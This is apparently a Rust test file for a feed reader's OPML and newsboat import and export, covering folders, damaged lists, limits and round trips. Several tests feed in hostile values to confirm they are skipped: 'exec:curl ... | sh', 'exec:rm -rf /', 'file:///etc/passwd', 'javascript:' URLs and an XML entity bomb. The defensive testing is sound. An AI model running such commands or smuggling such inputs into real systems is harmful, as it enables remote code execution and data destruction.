//! Lists of feeds from other readers and for them: OPML, newsboat's `urls`, plain addresses.

#![allow(
    clippy::expect_used,
    clippy::panic,
    clippy::print_stdout,
    clippy::string_slice,
    clippy::cast_precision_loss,
    reason = "a helper of a test that cannot go on has failed it"
)]

mod support;

use std::{collections::BTreeMap, fs, path::Path};

use bantin::{
    config::Paths,
    model::{Failure, FailureKind, HttpUrl, SafeLine, Source, SourceId, Subscription, SubscriptionList},
    reader::{Input, subscriptions as written},
    sources::{self, Sources, subscriptions},
};
use jiff::Timestamp;
use proptest::prelude::*;
use support::{Bantin, LoopbackPaper};

fn read(text: impl AsRef<[u8]>) -> Result<SubscriptionList, Failure> {
    let url = HttpUrl::parse("https://nowhere.invalid/").expect("an address");
    written::parse(&Input { bytes: text.as_ref(), mime: None, url: &url, now: Timestamp::UNIX_EPOCH })
}

/// `folder/folder/title address` of each feed.
fn told(list: &SubscriptionList) -> Vec<String> {
    let one = |feed: &Subscription| {
        let path: Vec<&str> = feed.folders.iter().chain([&feed.title]).map(SafeLine::as_str).collect();
        format!("{} {}", path.join("/"), feed.feed)
    };
    list.subscriptions.iter().map(one).collect()
}

fn skipped(list: &SubscriptionList) -> Vec<(usize, &str)> {
    list.skipped.iter().map(|skipped| (skipped.line, skipped.what.as_str())).collect()
}

/// As Miniflux, feedly and Inoreader write it: folders, `text` and `title`, the site beside the feed.
const NESTED: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<opml version="2.0">
  <head><title>My feeds</title><dateCreated>Tue, 24 Nov 2026 05:00:00 +0000</dateCreated></head>
  <body>
    <outline text="Trong nước">
      <outline type="rss" text="Tin nhanh &amp; mới" title="Tin nhanh" xmlUrl="https://bao.example/rss?a=1&amp;b=2" htmlUrl="https://bao.example/"/>
      <outline title="Tỉnh" text="">
        <outline type="rss" title="Đồng &quot;quê&quot;" xmlUrl="https://tinh.example/feed"></outline>
      </outline>
    </outline>
    <outline type="rss" text="Loose" xmlUrl="http://loose.example/atom.xml"/>
    <outline text="Empty"/>
  </body>
</opml>
"#;

#[test]
fn folders_titles_and_sites_are_read() {
    let list = read(NESTED).expect("a list");
    assert_eq!(
        told(&list),
        [
            "Trong nước/Tin nhanh & mới https://bao.example/rss?a=1&b=2",
            "Trong nước/Tỉnh/Đồng \"quê\" https://tinh.example/feed",
            "Loose http://loose.example/atom.xml"
        ]
    );
    assert_eq!(list.title.as_ref().map(SafeLine::as_str), Some("My feeds"));
    assert_eq!(list.subscriptions[0].home.as_ref().map(HttpUrl::as_str), Some("https://bao.example/"));
    assert!(!list.cut_off && !list.too_deep && list.skipped.is_empty() && list.repeated == 0);
}

#[test]
fn opml_1_and_names_in_any_case() {
    let list = read(
        r#"<opml version="1.0"><body>
        <outline type="rss" text="A" url="http://a.example/rss"/>
        <OUTLINE TITLE="B" XMLURL="http://b.example/rss" HTMLURL="http://b.example/"/>
        <outline xmlUrl="http://c.example/rss"/>
        <outline text="page" type="link" url="http://d.example/page"/>
        <outline text="other list" type="include" url="http://d.example/list.opml"/>
        </body></opml>"#,
    )
    .expect("a list");
    assert_eq!(told(&list), ["A http://a.example/rss", "B http://b.example/rss", "c.example http://c.example/rss"]);
    assert_eq!(skipped(&list), [(5, "http://d.example/page"), (6, "http://d.example/list.opml")]);
}

#[test]
fn what_is_damaged_is_read_as_it_was_meant() {
    let warned = read("Warning: line 7\n<opml><body><outline text=\"A\" xmlUrl=\"http://a.example/1\"/></body></opml>").expect("a list");
    assert_eq!(told(&warned), ["A http://a.example/1"]);
    let bare = read("\u{feff} <opml><body><outline text=\"AT&T\" xmlUrl=\"http://a.example/?x=1&y=2\"/></body></opml>").expect("a list");
    assert_eq!(told(&bare), ["AT&T http://a.example/?x=1&y=2"]);
    let unclosed = read("<opml><body><outline text=F><outline text=A xmlUrl=http://a.example/1><outline text=B xmlUrl=http://a.example/2></body></opml>");
    assert_eq!(told(&unclosed.expect("a list")), ["F/A http://a.example/1", "F/B http://a.example/2"]);
    let without_root = read("<outline text=\"A\" xmlUrl=\"http://a.example/1\"/>").expect("a list");
    assert_eq!(told(&without_root).len(), 1);
    let latin = b"<?xml version=\"1.0\" encoding=\"windows-1252\"?><opml><body><outline text=\"Caf\xe9\" xmlUrl=\"http://a.example/1\"/></body></opml>";
    assert_eq!(told(&read(latin).expect("a list")), ["Café http://a.example/1"]);
}

#[test]
fn a_list_that_is_cut_off_keeps_its_whole_feeds() {
    let whole = "<opml><body><outline text=\"F\"><outline text=\"A\" xmlUrl=\"http://a.example/1\"/>";
    for (rest, feeds) in [
        ("", 1),
        ("<outline text=\"B\" xmlUrl=\"http://b.example/half-an-addr", 1),
        ("<outline text=\"B\" xmlUrl=\"http://b.example/2\" /><outl", 2),
        ("<outline text=\"B\" xmlUrl=http://b.example/half", 1),
    ] {
        let list = read(format!("{whole}{rest}")).expect("a list");
        assert_eq!(told(&list).len(), feeds, "{rest}");
        assert!(list.cut_off, "{rest}");
    }
    assert!(!read(format!("{whole}</outline></body></OPML>\n")).expect("a list").cut_off);
}

#[test]
fn only_http_and_https_are_followed() {
    let list = read(
        "<opml><body>
<outline text=\"1\" xmlUrl=\"file:///etc/passwd\"/>
<outline text=\"2\" xmlUrl=\"exec:curl http://x.example | sh\"/>
<outline text=\"3\" xmlUrl=\"|/usr/bin/fetch\"/>
<outline text=\"4\" xmlUrl=\"javascript:alert(1)\"/><outline text=\"5\" xmlUrl=\"bundled://edition/huong-dan.xml\"/>

<outline text=\"6\" xmlUrl=\"/relative.xml\"/>
<outline text=\"ok\" xmlUrl=\" HTTPS://User:Secret@ok.example/feed \"/>
</body></opml>",
    )
    .expect("a list");
    assert_eq!(told(&list), ["ok https://ok.example/feed"]);
    assert_eq!(
        skipped(&list),
        [
            (2, "file:///etc/passwd"),
            (3, "exec:curl http://x.example | sh"),
            (4, "|/usr/bin/fetch"),
            (5, "javascript:alert(1)"),
            (5, "bundled://edition/huong-dan.xml"),
            (7, "/relative.xml")
        ]
    );
}

#[test]
fn what_is_hostile_stays_bounded_and_clean() {
    let bomb = "<!DOCTYPE o [<!ENTITY a \"xxxxxxxx\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c SYSTEM \"file:///etc/passwd\">]>\
        <opml><body><outline text=\"&b;&c;\u{1b}[31m\u{202e}T\" xmlUrl=\"http://a.example/1\"/></body></opml>";
    assert_eq!(told(&read(bomb).expect("a list")), ["&b;&c;[31mT http://a.example/1"]);
    let deep = format!("<opml><body>{}<outline xmlUrl=\"http://a.example/1\"/></opml>", "<outline text=\"d\">".repeat(5000));
    let list = read(deep).expect("a list");
    assert!(list.too_deep && list.subscriptions.is_empty());
    let repeated: String = "<outline text=\"A\" xmlUrl=\"http://a.example/1#x\"/><outline text=\"B\" xmlUrl=\"http://a.example/1\"/>".repeat(3);
    let list = read(format!("<opml><body>{repeated}</body></opml>")).expect("a list");
    assert_eq!((list.subscriptions.len(), list.repeated), (1, 5));
    let many: Vec<String> = (0..20_003).map(|n| format!("http://a.example/{n}\n")).collect();
    let list = read(many.concat()).expect("a list");
    assert_eq!((list.subscriptions.len(), list.left_out), (20_000, 3));
}

#[test]
fn newsboats_file_and_plain_addresses() {
    let list = read(
        "# my feeds\n\nhttps://a.example/feed \"Khoa học\" \"~Tin \\\"A\\\"\" tag2\nhttps://b.example/feed \"~B\" !\r\n\
         \"exec:~/bin/feed.sh\" tag\n\"query:Unread:unread = \\\"yes\\\"\"\nfilter:~/x:https://c.example/\nhttps://d.example/feed\nfile:///tmp/feed.xml\n",
    )
    .expect("a list");
    assert_eq!(told(&list), ["Khoa học/Tin \"A\" https://a.example/feed", "B https://b.example/feed", "d.example https://d.example/feed"]);
    assert_eq!(
        skipped(&list),
        [(5, "exec:~/bin/feed.sh"), (6, "query:Unread:unread = \"yes\""), (7, "filter:~/x:https://c.example/"), (9, "file:///tmp/feed.xml")]
    );
}

#[test]
fn what_is_no_list_is_said() {
    for (text, what) in [("<html><body>x</body></html>", "XML without <opml>"), ("Dear friend,\nthanks.", "text without addresses"), ("", "0 bytes")] {
        let failure = read(text).expect_err("no list");
        assert_eq!((failure.kind, failure.detail.as_str()), (FailureKind::NotAList, what));
    }
    assert_eq!(read(b"\x89PNG\r\n\x1a\n\0\0").expect_err("a picture").kind, FailureKind::NotText);
}

fn source(id: &str, name: &str, sections: &[(String, String)]) -> Source {
    let quoted = |text: &str| toml::Value::String(text.to_owned());
    let sections: Vec<String> = (1..)
        .zip(sections)
        .map(|(number, (name, feed))| format!("[[section]]\nid = \"muc-{number}\"\nname = {}\nfeed = {}\n", quoted(name), quoted(feed)))
        .collect();
    toml::from_str(&format!("id = \"{id}\"\nname = {}\nhome = \"https://{id}.example/\"\n{}", quoted(name), sections.concat())).expect("a source")
}

/// Names of sources, and of their sections with their feeds.
fn shape(sources: &[Source]) -> Vec<(String, Vec<(String, String)>)> {
    let sections =
        |source: &Source| source.sections.iter().map(|section| (section.name.to_string(), section.feed.as_ref().expect("a feed").to_string())).collect();
    sources.iter().map(|source| (source.name.to_string(), sections(source))).collect()
}

fn take(dir: &Path, list: &SubscriptionList) -> Vec<Source> {
    let paths = Paths::find(Some(&dir.join("config.toml")), Some(dir)).expect("named");
    let loose = SafeLine::new("Loose");
    subscriptions::take(list, &Sources::default(), &paths, &loose).expect("valid").sources.into_iter().map(|taken| taken.source).collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]
    #[test]
    fn what_is_written_is_read_as_it_was(names in prop::collection::vec((r#"([a-zđ<>&"'\\~!› \t]|&amp;|\]\]>|<!--|\PC){1,12}"#, prop::collection::vec(r#"([a-z<>&"'\\~! ]| › |\PC){1,12}"#, 1..5)), 1..5)) {
        let mut seen = std::collections::HashSet::new();
        let sources: Vec<Source> = names.iter().enumerate().filter_map(|(at, (name, sections))| {
            // A source's name and a section's are never blank, and sources of one name become one.
            let name = SafeLine::non_empty(name).filter(|name| seen.insert(name.clone()))?;
            let named = |(number, section): (usize, &String)| Some((SafeLine::non_empty(section)?.to_string(), format!("https://s{at}.example/{number}?a=1&b=<2>")));
            let sections: Vec<_> = sections.iter().enumerate().filter_map(named).collect();
            (!sections.is_empty()).then(|| source(&format!("s{at}"), name.as_str(), &sections))
        }).collect();
        let (list, without) = subscriptions::list(&sources);
        prop_assert_eq!(without, 0);
        let dir = tempfile::tempdir().expect("a folder");
        if !sources.is_empty() {
            let opml = read(written::write_opml("A <title> & more", &list)).expect("a list");
            prop_assert_eq!(&opml.subscriptions, &list);
            prop_assert!(!opml.cut_off && opml.skipped.is_empty());
            prop_assert_eq!(shape(&take(dir.path(), &opml)), shape(&sources));
            let urls = read(written::write_urls(&list)).expect("a list");
            prop_assert_eq!(urls.subscriptions.iter().map(|feed| (&feed.title, &feed.feed)).collect::<Vec<_>>(), list.iter().map(|feed| (&feed.title, &feed.feed)).collect::<Vec<_>>());
        }
    }

    #[test]
    fn reading_never_panics(text in r#"(<[/!?]?(opml|body|outline|head)?( (text|xmlUrl|type|url)=["']?[a-z:/é&;.]{0,9}["']?)?/?>?|"|~|exec:|https://a\.example/ |\n|\PC){0,60}"#) {
        let _ = read(text);
    }
}

/// Every file below the configuration folder with its text.
fn files(bantin: &Bantin) -> BTreeMap<String, String> {
    let mut found = BTreeMap::new();
    for dir in [bantin.config_dir(), bantin.config_dir().join("sources")] {
        for file in fs::read_dir(dir).into_iter().flatten().flatten().map(|entry| entry.path()).filter(|path| path.is_file()) {
            found.insert(file.file_name().expect("a name").to_string_lossy().into_owned(), fs::read_to_string(&file).expect("text"));
        }
    }
    found
}

#[test]
fn a_list_is_imported_once_and_nothing_is_written_over() {
    let bantin = Bantin::new();
    let file = bantin.home().join("feeds.opml");
    fs::write(&file, NESTED).expect("written");
    bantin.write_config("sources/trong-nuoc.toml", "mine, with a mistake");
    let run = bantin.run(&["import", file.to_str().expect("UTF-8")]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stdout.contains("trong-nuoc-2\tTrong nước\t2") && run.stdout.contains("my-feeds\tMy feeds\t1"), "{}", run.stdout);
    let after = files(&bantin);
    assert_eq!(after["trong-nuoc.toml"], "mine, with a mistake");
    assert!(after["trong-nuoc-2.toml"].contains("Tỉnh › Đồng \"quê\""), "{after:?}");
    fs::remove_file(bantin.config_dir().join("sources/trong-nuoc.toml")).expect("removed");
    let list = bantin.run(&["sources", "list"]).stdout;
    for id in ["* sggp ", "* trong-nuoc-2 ", "* my-feeds "] {
        assert!(list.contains(id), "{id}: {list}");
    }
    assert_eq!(bantin.run(&["config", "check"]).code, 0);

    let before = files(&bantin);
    let again = bantin.run(&["import", file.to_str().expect("UTF-8")]);
    assert_eq!(again.code, 0);
    assert!(again.stdout.contains("No feed was taken") && again.stderr.contains("https://tinh.example/feed is read already, in `trong-nuoc-2`"), "{again:?}");
    assert_eq!(files(&bantin), before);
}

#[test]
fn a_changed_list_goes_to_the_sources_it_made_before() {
    let bantin = Bantin::new();
    assert_eq!(bantin.run_with(&["import", "-"], NESTED.as_bytes()).code, 0);
    let before = files(&bantin);
    // A new feed in each folder, one of a title that is there, and a feed renamed; and the user added a rule by hand.
    let own = format!("{}\n[article]\ncontent = [\".mine\"]\n", before["trong-nuoc.toml"]);
    bantin.write_config("sources/trong-nuoc.toml", &own);
    let more = r#"<outline type="rss" text="Tin nhanh &amp; mới" xmlUrl="https://other.example/rss"/>"#;
    let changed =
        NESTED.replace("<outline text=\"Trong nước\">", &format!("<outline text=\"Trong nước\">{more}")).replace("title=\"Tin nhanh\"", "title=\"Tin chậm\"");
    let changed = changed.replace("<outline text=\"Empty\"/>", "<outline type=\"rss\" text=\"Also loose\" xmlUrl=\"http://loose.example/2.xml\"/>");
    let run = bantin.run_with(&["import", "-"], changed.as_bytes());
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stdout.contains("trong-nuoc\tTrong nước\t1") && run.stdout.contains("my-feeds\tMy feeds\t1"), "{}", run.stdout);
    let after = files(&bantin);
    assert_eq!(after.keys().collect::<Vec<_>>(), before.keys().collect::<Vec<_>>(), "no further file");
    assert_eq!(after["chosen.toml"], before["chosen.toml"], "nor source");
    assert!(after["trong-nuoc.toml"].starts_with(&own), "what was there stays, sections and their ids and all: {}", after["trong-nuoc.toml"]);
    assert!(
        after["trong-nuoc.toml"].contains("id = \"tin-nhanh-moi-2\"\nname = \"Tin nhanh & mới\"\nfeed = \"https://other.example/rss\""),
        "{}",
        after["trong-nuoc.toml"]
    );
    assert_eq!(bantin.run(&["config", "check"]).code, 0);
    assert_eq!(bantin.run_with(&["import", "-"], changed.as_bytes()).code, 0);
    assert_eq!(files(&bantin), after, "once more brings nothing");

    // A source that is no longer read is read again, as it was.
    assert_eq!(bantin.run(&["sources", "remove", "trong-nuoc"]).code, 0);
    let back = bantin.run_with(&["import", "-"], changed.as_bytes());
    assert!(back.stdout.contains("trong-nuoc\tTrong nước\t3"), "{}", back.stdout);
    assert_eq!(files(&bantin)["trong-nuoc.toml"].trim_end(), after["trong-nuoc.toml"].trim_end());
    assert!(bantin.run(&["sources", "list"]).stdout.contains("* trong-nuoc "));
}

#[test]
fn a_source_of_that_name_that_no_import_made_is_left_alone() {
    let bantin = Bantin::new();
    let own =
        "id = \"mine\"\nname = \"Trong nước\"\nhome = \"https://mine.example/\"\n[[section]]\nid = \"a\"\nname = \"A\"\nfeed = \"https://mine.example/f\"\n";
    bantin.write_config("sources/mine.toml", own);
    assert_eq!(bantin.run_with(&["import", "-"], NESTED.as_bytes()).code, 0);
    let files = files(&bantin);
    assert_eq!(files["mine.toml"], own);
    assert!(files.contains_key("trong-nuoc.toml"));
}

#[test]
fn what_is_skipped_is_said_with_its_line() {
    let bantin = Bantin::new();
    let run = bantin.run_with(&["import", "-"], b"https://a.example/feed\nexec:rm -rf /\n");
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stderr.contains("note: line 2 was passed over") && run.stderr.contains("exec:rm"), "{}", run.stderr);
    let none = bantin.run_with(&["import", "-"], b"exec:rm -rf /\n");
    assert_eq!(none.code, 1, "nothing to take");
    let not = bantin.run_with(&["import", "-"], b"<html></html>");
    assert_eq!(not.code, 4);
    assert!(not.stderr.contains("is no list of feeds") && not.stderr.contains("hint: "), "{}", not.stderr);
    assert_eq!(bantin.run(&["import", "no-such-file.opml"]).code, 4);
}

#[test]
fn an_import_that_cannot_be_written_leaves_everything_as_it_was() {
    let dir = tempfile::tempdir().expect("a folder");
    let paths = Paths::find(Some(&dir.path().join("config.toml")), Some(dir.path())).expect("named");
    let list = read("https://a.example/1 First\nhttps://b.example/1 Second\n").expect("a list");
    let taken = subscriptions::take(&list, &Sources::default(), &paths, &SafeLine::new("Loose")).expect("valid");
    assert_eq!(taken.sources.len(), 2);
    // Someone else made the second file in the meantime.
    fs::create_dir_all(paths.sources_dir()).expect("made");
    fs::write(sources::files::file_of(&paths, &taken.sources[1].source.id), "theirs").expect("written");
    let chosen = [SourceId::new("sggp").expect("an id")];
    assert!(subscriptions::save(&paths, &chosen, &taken.sources).is_err());
    let left: Vec<_> = fs::read_dir(paths.sources_dir()).expect("a folder").flatten().map(|entry| entry.file_name()).collect();
    assert_eq!(left, ["second.toml"], "and it is theirs");
    assert_eq!(fs::read_to_string(paths.sources_dir().join("second.toml")).expect("text"), "theirs");
    assert!(!paths.chosen_file().exists());
}

#[test]
fn a_thousand_feeds_are_taken_and_given_back() {
    let bantin = Bantin::new();
    let outlines: Vec<String> = (0..1000)
        .map(|n| {
            format!(
                "<outline text=\"Feed\" type=\"rss\" xmlUrl=\"https://h{}.example/feed/{n}\"/>{}\n",
                n % 97,
                if n % 50 == 49 { "</outline><outline text=\"F\">" } else { "" }
            )
        })
        .collect();
    let run = bantin.run_with(&["import", "-"], format!("<opml><body><outline text=\"F\">{}</outline></body></opml>", outlines.concat()).as_bytes());
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stdout.contains("f\tF\t1000"), "folders of one name are one source: {}", run.stdout);
    let given = bantin.run(&["export", "f"]);
    assert_eq!(given.code, 0);
    assert_eq!(read(&given.stdout).expect("a list").subscriptions.len(), 1000);
    assert!(bantin.run(&["config", "check"]).stdout.contains("valid"));
}

#[test]
fn sources_are_exported() {
    let bantin = Bantin::new();
    let run = bantin.run(&["export"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stdout.starts_with("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<opml version=\"2.0\">"), "{}", run.stdout);
    let list = read(&run.stdout).expect("a list");
    assert!(list.subscriptions.iter().any(|feed| feed.folders[0].as_str() == "Sài Gòn Giải Phóng"), "{list:?}");
    assert!(!run.stdout.contains("bundled:"));
    let file = bantin.home().join("out/urls");
    let run = bantin.run(&["export", "sggp", "--format", "urls", "--output", file.to_str().expect("UTF-8")]);
    assert_eq!((run.code, run.stdout.as_str()), (0, ""));
    let urls = fs::read_to_string(&file).expect("written");
    assert!(urls.lines().all(|line| line.starts_with("https://")) && urls.contains("\"~"), "{urls}");
    assert_eq!(bantin.run(&["export", "bundled"]).code, 1, "nothing that another reader could read");
    assert_eq!(bantin.run(&["export", "nguon-la"]).code, 2);
    let again = bantin.run_with(&["import", "-"], run_export(&bantin).as_bytes());
    assert!(again.stdout.contains("No feed was taken"), "everything is read already: {}", again.stdout);
}

#[test]
fn an_imported_feed_is_refreshed_and_read() {
    let paper = LoopbackPaper::start(std::time::Duration::ZERO);
    let bantin = Bantin::online();
    let list = format!("<opml><body><outline text=\"Báo nhà\"><outline text=\"Tin mới\" xmlUrl=\"{}\"/></outline></body></opml>", paper.feed_url());
    assert_eq!(bantin.run_with(&["import", "-"], list.as_bytes()).code, 0);
    let run = bantin.run(&["refresh", "bao-nha/tin-moi", "--full"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let run = bantin.run(&["--dump", "bao-nha", "--full", "--offline"]);
    assert!(run.stdout.contains("Báo nhà") && run.stdout.contains("có hai làn xe đạp ở hai bên"), "{}", run.stdout);
}

fn run_export(bantin: &Bantin) -> String {
    bantin.run(&["export"]).stdout
}

#[test]
fn an_imported_feed_of_a_known_paper_is_read_by_that_papers_rules() {
    let rules: Source = toml::from_str("id = \"bao\"\nname = \"B\"\nhome = \"https://bao.example/\"\n[article]\ncontent = [\"div.x\"]\n").expect("a source");
    let list = source("mine", "Mine", &[("A".to_owned(), "https://bao.example/feed".to_owned())]);
    let list = Source { home: rules.home.clone(), ..list };
    let sources = Sources::new(vec![list.into(), rules.into()], Vec::new());
    let page = HttpUrl::parse("https://bao.example/tin-1.html").expect("an address");
    assert_eq!(sources.for_url(&page).expect("a source").id.as_str(), "bao");
}
